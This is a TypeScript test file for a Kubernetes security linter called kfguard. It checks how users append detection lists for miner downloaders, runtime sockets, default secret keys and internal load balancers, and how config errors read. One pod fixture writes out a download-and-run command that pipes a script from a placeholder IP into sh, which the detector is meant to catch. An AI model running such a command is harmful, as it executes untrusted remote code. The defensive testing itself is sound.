import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseConfig, parseConfigFile } from '../../src/config/parse.js';
import type { KfguardConfig } from '../../src/core/config-types.js';
import { ConfigError } from '../../src/core/errors.js';
import { optionSchemasOf } from '../../src/core/rule-options.js';
import type { K8sObject } from '../../src/core/types.js';
import { serviceReach } from '../../src/exposure/reach.js';
import objectStoreDefaultCredentials from '../../src/rules/authentication/object-store-default-credentials.rule.js';
import { ALL_RULES } from '../../src/rules/index.js';
import cryptoMinerWorkload from '../../src/rules/threat/crypto-miner-workload.rule.js';
import containerRuntimeSocket from '../../src/rules/workload-security/container-runtime-socket.rule.js';
import { runCase } from '../../src/testing/rule-tester.js';

const RULE_IDS = ALL_RULES.map((rule) => rule.meta.id);
const OPTION_SCHEMAS = optionSchemasOf(ALL_RULES);

/** A config as a user writes it, through the same validation the CLI runs. */
function configOf(text: string): KfguardConfig {
  return parseConfig(text, '.kfguard.yaml', RULE_IDS, OPTION_SCHEMAS);
}

function configErrorOf(text: string): string {
  try {
    configOf(text);
  } catch (error) {
    assert.ok(error instanceof ConfigError, String(error));
    return error.message;
  }
  assert.fail('expected a ConfigError');
}

const pod = (spec: Record<string, unknown>): K8sObject => ({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p', namespace: 'ml' }, spec });

describe('users append to shipped lists through .kfguard.yaml', () => {
  it('downloaders: an in-house fetch tool piped into a shell counts as download-and-run', () => {
    const objects = [pod({ containers: [{ name: 'c', image: 'busybox', command: ['sh', '-c', 'grab-url https://203.0.113.9/x.sh | sh'] }] })];
    assert.deepEqual(runCase(cryptoMinerWorkload, { name: 'shipped', objects, config: configOf('') }), []);
    const config = configOf('rules:\n  crypto-miner-workload:\n    options: { downloaders: [grab-url] }\n');
    const [finding] = runCase(cryptoMinerWorkload, { name: 'appended', objects, config });
    assert.match(finding?.evidence.join('\n') ?? '', /download-and-execute chain "grab-url \| sh"/);
  });

  it('runtime sockets: a socket added under lists is reported by container-runtime-socket', () => {
    const objects = [
      pod({ containers: [{ name: 'c', image: 'x', volumeMounts: [{ name: 'rt', mountPath: '/rt' }] }], volumes: [{ name: 'rt', hostPath: { path: '/run/acme/runtime.sock' } }] }),
    ];
    assert.deepEqual(runCase(containerRuntimeSocket, { name: 'shipped', objects, config: configOf('') }), []);
    const config = configOf('lists:\n  runtime-sockets: [/run/acme/runtime.sock]\n');
    assert.equal(runCase(containerRuntimeSocket, { name: 'appended', objects, config }).length, 1);
  });

  it('default credentials: an appended object-store secret key is found and never printed', () => {
    const secret: K8sObject = { apiVersion: 'v1', kind: 'Secret', metadata: { name: 's', namespace: 'kubeflow' }, stringData: { secretkey: 'acme-default-1' } };
    assert.deepEqual(runCase(objectStoreDefaultCredentials, { name: 'shipped', objects: [secret], config: configOf('') }), []);
    const config = configOf('rules:\n  object-store-default-credentials:\n    options: { defaultSecretKeys: [acme-default-1] }\n');
    const findings = runCase(objectStoreDefaultCredentials, { name: 'appended', objects: [secret], config });
    assert.equal(findings.length, 1);
    assert.ok(!JSON.stringify(findings).includes('acme-default-1'));
  });

  it('internal load-balancer annotations: an appended annotation makes the LoadBalancer internal', () => {
    const service: K8sObject = {
      apiVersion: 'v1',
      kind: 'Service',
      metadata: { name: 'gw', namespace: 'istio-system', annotations: { 'lb.acme.example/private': 'True' } },
      spec: { type: 'LoadBalancer' },
    };
    assert.equal(serviceReach(service, configOf('').lists)?.reach.level, 'anywhere');
    const config = configOf('lists:\n  internal-load-balancer-annotations:\n    - { key: lb.acme.example/private, values: ["true"], cloud: Acme }\n');
    const reach = serviceReach(service, config.lists)?.reach;
    assert.equal(reach?.level, 'internal');
    assert.equal(reach?.how, 'internal Acme LoadBalancer (lb.acme.example/private)');
  });

  it('the old top-level keys still work, with a warning naming the file and the new key', () => {
    const { config, warnings } = parseConfigFile(
      'registries: {allowed: [ghcr.io]}\nindicators: {poolDomains: [pool.acme.example]}\nrules:\n  crypto-miner-workload: {options: {poolDomains: [other.example]}}\n',
      'ci/.kfguard.yaml',
      RULE_IDS,
      OPTION_SCHEMAS,
    );
    assert.deepEqual(config.rules['image-registry-not-allowed']?.options, { allowed: ['ghcr.io'] });
    assert.deepEqual(config.rules['crypto-miner-workload']?.options, { poolDomains: ['other.example', 'pool.acme.example'] });
    assert.deepEqual(warnings, [
      'ci/.kfguard.yaml: "indicators" is deprecated; use rules.crypto-miner-workload.options (same keys)',
      'ci/.kfguard.yaml: "registries" is deprecated; use rules.image-registry-not-allowed.options.allowed',
    ]);
  });
});

describe('invalid options are one-line errors naming the file and the key', () => {
  it('an unknown option key lists the allowed ones', () => {
    assert.equal(
      configErrorOf('rules:\n  image-registry-not-allowed:\n    options: { allow: [ghcr.io] }\n'),
      '.kfguard.yaml: rules.image-registry-not-allowed.options.allow: unknown key, expected one of allowed',
    );
  });

  it('a wrong type names the element', () => {
    assert.equal(
      configErrorOf('rules:\n  crypto-miner-workload:\n    options: { downloaders: [grab-url, 7] }\n'),
      '.kfguard.yaml: rules.crypto-miner-workload.options.downloaders[1]: expected a string, got 7',
    );
  });

  it('options for a rule that takes none', () => {
    assert.equal(configErrorOf('rules:\n  pod-privileged:\n    options: { x: 1 }\n'), '.kfguard.yaml: rules.pod-privileged.options: this rule takes no options');
  });

  it('an unknown shared list, and a relative socket path', () => {
    assert.match(configErrorOf('lists:\n  runtime-socket: [/x.sock]\n'), /^\.kfguard\.yaml: lists\.runtime-socket: unknown key, expected one of runtime-sockets, internal-load-balancer-annotations$/);
    assert.equal(configErrorOf('lists:\n  runtime-sockets: [run/x.sock]\n'), '.kfguard.yaml: lists.runtime-sockets[0]: expected an absolute host path, got "run/x.sock"');
  });
});
